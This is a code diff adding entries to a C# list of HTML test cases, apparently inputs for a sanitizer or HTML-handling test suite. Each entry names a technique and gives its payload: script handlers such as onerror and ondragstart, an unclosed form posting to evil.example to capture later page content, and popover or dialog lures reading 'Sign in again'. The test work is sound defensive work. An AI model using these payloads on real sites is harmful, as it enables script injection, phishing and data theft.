@@ -29,5 +29,9 @@ internal static class FormBodies
         ("dragging out", "what is dragged goes elsewhere", "<a href=https://vendor.example draggable=true ondragstart=canary()>Drag me</a><div dropzone=move ondrop=canary()>x</div>"),
         ("form without an end", "swallows what comes after it", "<form action=https://evil.example/stolen><button>x</button><textarea name=rest>"),
         ("form around a table", "misplaced forms are moved", "<table><form action=/stolen><tr><td><button>x</button></td></tr></form></table>"),
+        ("interest", "shows another element as soon as it is pointed at", "<a href=https://vendor.example interestfor=p>x</a><button interestfor=p>y</button><div popover=hint id=p>Sign in again</div>"),
+        ("select with a page in it", "newer browsers draw what older ones drop", "<style>select,::picker(select){appearance:base-select}</style><select><button><selectedcontent></selectedcontent></button><option selected><img src=x onerror=canary()>a</option></select>"),
+        ("dialog that closes by a click anywhere", "takes the clicks that are meant for the page", "<dialog open closedby=any id=d>Sign in again</dialog><button command=request-close commandfor=d>x</button><button command=--leave commandfor=d>y</button>"),
+        ("leave of the browser", "an element that asks for camera and place by a button of the browser's own", "<permission type='camera microphone'></permission><geolocation autolocate></geolocation><usermedia type=camera></usermedia>"),
     ];
 }
